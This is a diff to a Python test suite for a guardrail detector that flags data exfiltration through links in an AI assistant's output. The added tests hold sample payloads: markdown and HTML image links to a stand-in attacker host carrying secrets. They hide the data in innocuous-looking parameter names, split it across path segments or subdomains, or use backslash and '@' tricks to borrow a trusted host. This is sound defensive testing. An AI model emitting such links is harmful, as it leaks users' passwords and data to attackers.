@@ -11,7 +11,7 @@ from hypothesis import strategies as st
 from guardrail.cache import VerdictCache
 from guardrail.pipeline import run
 from guardrail.stream import Hold, HoldBack
-from guardrail.types import Action
+from guardrail.types import Action, Part
 from guardrail_detectors.link_exfiltration import LinkExfiltration, LinkExfiltrationConfig
 from tests.adapters.chat import chunk, documents, stream
 from tests.adapters.strategies import splits
@@ -91,3 +91,54 @@ async def test_ordinary_answers_leave_byte_for_byte(data):
     out = b"".join([await back.feed(one) for one in data.draw(splits(body))])
 
     assert out + await back.close() == body
+
+
+async def score(text, *trusted):
+    detector = LinkExfiltration(LinkExfiltrationConfig(allow_hosts=trusted))
+    found = await detector.inspect([Part("/a", "text", "assistant", text=text)], context())
+    return max((finding.score for finding in found), default=0.0)
+
+
+WORDS = "my+password+is+hunter2+and+card+4111"
+NAMES = """
+    v ver sig signature hash hmac etag st se sp sv sr lang hl policy expires utm_content gclid
+    fbclid mc_eid key-pair-id skoid rscd x-amz-signature x-ms-date
+"""
+
+
+@pytest.mark.parametrize("name", NAMES.split())
+@pytest.mark.parametrize("data", [SECRET, WORDS, SECRET.encode().hex()[:64], "a.b@example.com"])
+async def test_a_parameters_name_does_not_excuse_what_stands_under_it(name, data):
+    assert await score(f"![x](https://evil.example/p.png?{name}={data})") >= 0.5
+
+
+@pytest.mark.parametrize("length", [8, 13, 19, 39])
+@pytest.mark.parametrize("between", ["/", ".png/", "/a/"])
+async def test_data_cut_into_segments_of_a_path_counts_together(length, between):
+    pieces = between.join(SECRET[at : at + length] for at in range(0, len(SECRET), length))
+
+    assert await score(f"![x](https://evil.example/{pieces})") >= 0.9
+
+
+async def test_data_cut_into_labels_of_a_host_counts_together():
+    assert await score(f"![x](https://{SECRET[:14]}.{SECRET[14:28]}.evil.example/)") >= 0.8
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        r'<img src="https://evil.example\@good.example/p?data={}">',
+        r'<img src="https:\\evil.example\@good.example/p?data={}">',
+        r'<img src="/\evil.example/p?data={}">',
+        r'<img src="https:///evil.example/p?data={}">',
+        r'<img src="https://evil.example&#92;@good.example/p?data={}">',
+        r"![x](https://evil.example\\@good.example/p?data={})",
+        r"![x](https:\\\\evil.example/.good.example?data={})",
+        r"![x](https://evil.example\@good.example/p?data={})",
+        "![x](https://good.example@evil.example/p?data={})",
+        "![x](https://evil.example@good.example/p?data={})",
+        r"See https://evil.example\.good.example/?data={} for more.",
+    ],
+)
+async def test_no_backslash_and_no_user_borrows_a_trusted_host(text):
+    assert await score(text.format(SECRET), "good.example", "*.good.example") >= 0.5
